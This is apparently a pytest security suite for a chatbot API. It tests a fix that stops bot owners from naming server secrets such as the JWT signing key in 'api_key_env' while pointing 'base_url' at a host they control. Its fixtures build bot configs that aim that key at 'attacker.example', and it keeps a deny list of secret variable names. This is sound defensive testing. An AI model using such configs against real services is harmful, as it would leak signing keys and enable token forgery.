"""A bot's `api_key_env` reaches only the keys the operator offers, never the service's secrets.

The hole: `api_key_env` could name any variable of the server, and the bot's owner also picks
`base_url`, so `CHATBOTS_JWT_SECRET` plus a server of their own sent them the signing key.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from typing import Any
from uuid import UUID

import httpx
import pytest
from fastapi import FastAPI
from pydantic import ValidationError

from adapters.engines.openai import (
    OpenAICompatibleEngine,
    build_http_client,
    offered_upstream_keys,
)
from adapters.outbound_policy import OutboundPolicy
from application.errors import UpstreamFailed
from application.ports import ReplyRequest
from domain.bots import Bot, EngineKind
from entrypoints.settings import Settings
from tests.api.conftest import ApiUser, client_for, make_app, sign_up
from tests.factories import BotFactory
from tests.fake_upstream import FakeUpstream

pytestmark = pytest.mark.security

SIGNING_KEY = "signing-key-that-must-never-leave-this-server-0123456789"
OFFERED = "OFFERED_UPSTREAM_KEY"
OFFERED_VALUE = "sk-offered-upstream-key-value-0123456789"
FORBIDDEN = ["CHATBOTS_JWT_SECRET", "CHATBOTS_DATABASE_URL", "HOME", "PATH"]


@pytest.fixture(scope="module")
def running_upstream() -> Iterator[FakeUpstream]:
    with FakeUpstream() as upstream:
        yield upstream


@pytest.fixture
def upstream(running_upstream: FakeUpstream) -> FakeUpstream:
    running_upstream.reset()
    return running_upstream


@pytest.fixture
def server_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CHATBOTS_JWT_SECRET", SIGNING_KEY)
    monkeypatch.setenv(OFFERED, OFFERED_VALUE)


def openai_config(base_url: str, api_key_env: str) -> dict[str, Any]:
    return {"base_url": base_url, "model": "fake-model", "api_key_env": api_key_env}


async def create_openai_bot(user: ApiUser, api_key_env: str) -> httpx.Response:
    return await user.client.post(
        "/api/v1/bots",
        json={
            "name": "Key thief",
            "engine": "openai",
            "engine_config": openai_config("https://attacker.example/v1", api_key_env),
        },
        headers=user.headers,
    )


# --- saving a bot -------------------------------------------------------------------------------


@pytest.mark.parametrize("name", FORBIDDEN)
async def test_no_key_name_is_accepted_when_the_operator_offers_none(
    client: httpx.AsyncClient, name: str
) -> None:
    member = await sign_up(client, "member@example.com")

    response = await create_openai_bot(member, name)

    assert response.status_code == 422, response.text
    detail = response.json()["detail"]
    assert f"api_key_env {name} is not one of the upstream keys" in detail
    assert "offers none" in detail


@pytest.fixture
async def offering_client(
    database_url: str, sql_engine: object, server_environment: None
) -> AsyncIterator[httpx.AsyncClient]:
    app = make_app(database_url, upstream_keys=(OFFERED,))
    async for client in client_for(app):
        yield client


@pytest.mark.parametrize("name", FORBIDDEN)
async def test_only_offered_key_names_are_accepted_on_create_and_patch(
    offering_client: httpx.AsyncClient, name: str
) -> None:
    member = await sign_up(offering_client, "member@example.com")

    refused = await create_openai_bot(member, name)
    assert refused.status_code == 422, refused.text
    assert f"this server offers: {OFFERED}" in refused.json()["detail"]

    created = await create_openai_bot(member, OFFERED)
    assert created.status_code == 201, created.text
    bot = created.json()
    patched = await offering_client.patch(
        f"/api/v1/bots/{bot['id']}",
        json={"engine_config": {**bot["engine_config"], "api_key_env": name}},
        headers=member.headers,
    )
    assert patched.status_code == 422, patched.text
    assert f"this server offers: {OFFERED}" in patched.json()["detail"]
    assert SIGNING_KEY not in patched.text


def test_the_operator_cannot_offer_the_services_own_settings(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("CHATBOTS_UPSTREAM_KEYS", f"{OFFERED},CHATBOTS_JWT_SECRET")
    with pytest.raises(ValidationError, match="CHATBOTS_JWT_SECRET is one of this service's own"):
        Settings(_env_file=None)  # type: ignore[call-arg]


def test_offered_keys_are_read_once_and_never_include_service_settings() -> None:
    environ = {OFFERED: OFFERED_VALUE, "CHATBOTS_JWT_SECRET": SIGNING_KEY, "HOME": "/root"}
    offered = offered_upstream_keys([OFFERED, "CHATBOTS_JWT_SECRET", "UNSET_KEY"], environ)
    assert offered == {OFFERED: OFFERED_VALUE, "UNSET_KEY": ""}


# --- a bot stored before the fix ----------------------------------------------------------------


def stored_bot(base_url: str, api_key_env: str) -> Bot:
    bot: Bot = BotFactory.build(
        engine=EngineKind.OPENAI, engine_config=openai_config(base_url, api_key_env)
    )
    return bot


@pytest.mark.parametrize("name", FORBIDDEN)
async def test_the_engine_never_sends_a_key_that_is_not_offered(
    upstream: FakeUpstream, server_environment: None, name: str
) -> None:
    keys = offered_upstream_keys([OFFERED], {OFFERED: OFFERED_VALUE, name: SIGNING_KEY})
    async with build_http_client(OutboundPolicy(allow_private=True)) as client:
        engine = OpenAICompatibleEngine(client, upstream_keys=keys, max_retries=0)
        request = ReplyRequest(bot=stored_bot(upstream.url, name), history=[], message="hi")

        with pytest.raises(UpstreamFailed) as raised:
            async for _ in engine.reply(request):
                pass

    assert type(raised.value) is UpstreamFailed  # a 502
    assert f"api_key_env {name} is not one of the upstream keys" in raised.value.detail
    assert SIGNING_KEY not in raised.value.detail
    assert upstream.request_count == 0  # nothing was sent, so no Authorization header either


async def _store_unchecked_config(app: FastAPI, bot_id: str, config: dict[str, Any]) -> None:
    """What a row written before validation existed looks like: straight into the store."""
    uow_factory = app.state.container.uow_factory()
    async with uow_factory() as uow:
        bot = await uow.bots.get(UUID(bot_id))
        assert bot is not None
        bot.configure({"engine_config": config}, datetime.now(UTC))
        await uow.commit()


async def test_a_stored_bot_naming_the_signing_key_gets_a_502_and_sends_nothing(
    database_url: str, sql_engine: object, server_environment: None, upstream: FakeUpstream
) -> None:
    app = make_app(database_url, outbound_allow_private=True, upstream_keys=(OFFERED,))
    async for client in client_for(app):
        member = await sign_up(client, "member@example.com")
        created = await client.post(
            "/api/v1/bots",
            json={
                "name": "Old bot",
                "engine": "openai",
                "engine_config": openai_config(upstream.url, OFFERED),
            },
            headers=member.headers,
        )
        assert created.status_code == 201, created.text
        bot_id = created.json()["id"]
        await _store_unchecked_config(
            app, bot_id, openai_config(upstream.url, "CHATBOTS_JWT_SECRET")
        )
        conversation = await client.post(
            f"/api/v1/bots/{bot_id}/conversations", json={}, headers=member.headers
        )
        reply = await client.post(
            f"/api/v1/conversations/{conversation.json()['id']}/messages",
            json={"content": "hello"},
            headers=member.headers,
        )

    assert reply.status_code == 502, reply.text
    assert SIGNING_KEY not in reply.text
    assert upstream.request_count == 0


def test_a_key_bound_to_a_host_goes_to_that_host_only() -> None:
    from adapters.engines.openai import checked_offer, refusal_of

    offers = checked_offer(["OPENAI_API_KEY@api.openai.com", "LOCAL_KEY@127.0.0.1:11434", "ANY"])
    assert refusal_of("OPENAI_API_KEY", offers, "https://api.openai.com/v1") is None
    assert refusal_of("OPENAI_API_KEY", offers, "https://API.OpenAI.com:443/v1") is None
    refused = refusal_of("OPENAI_API_KEY", offers, "https://attacker.example/v1")
    assert refused is not None
    assert "api.openai.com" in refused
    assert refusal_of("LOCAL_KEY", offers, "http://127.0.0.1:11434/v1") is None
    assert refusal_of("LOCAL_KEY", offers, "http://127.0.0.1:8080/v1") is not None
    assert refusal_of("ANY", offers, "https://anywhere.example/v1") is None
    assert offered_upstream_keys(offers, {"OPENAI_API_KEY": "sk-1", "ANY": "x"}) == {
        "OPENAI_API_KEY": "sk-1",
        "LOCAL_KEY": "",
        "ANY": "x",
    }
    with pytest.raises(ValueError, match="NAME@host"):
        checked_offer(["KEY@not a host"])


async def test_a_bound_key_is_refused_for_another_host(
    database_url: str, sql_engine: object, upstream: FakeUpstream, server_environment: None
) -> None:
    bound = f"{OFFERED}@api.openai.com"
    app = make_app(database_url, upstream_keys=bound, outbound_allow_private=True)
    async for client in client_for(app):
        owner = await sign_up(client, "owner@example.com")
        response = await client.post(
            "/api/v1/bots",
            json={
                "name": "Leaky",
                "engine": "openai",
                "engine_config": openai_config(upstream.url, OFFERED),
            },
            headers=owner.headers,
        )
        assert response.status_code == 422
        assert "api.openai.com" in response.text
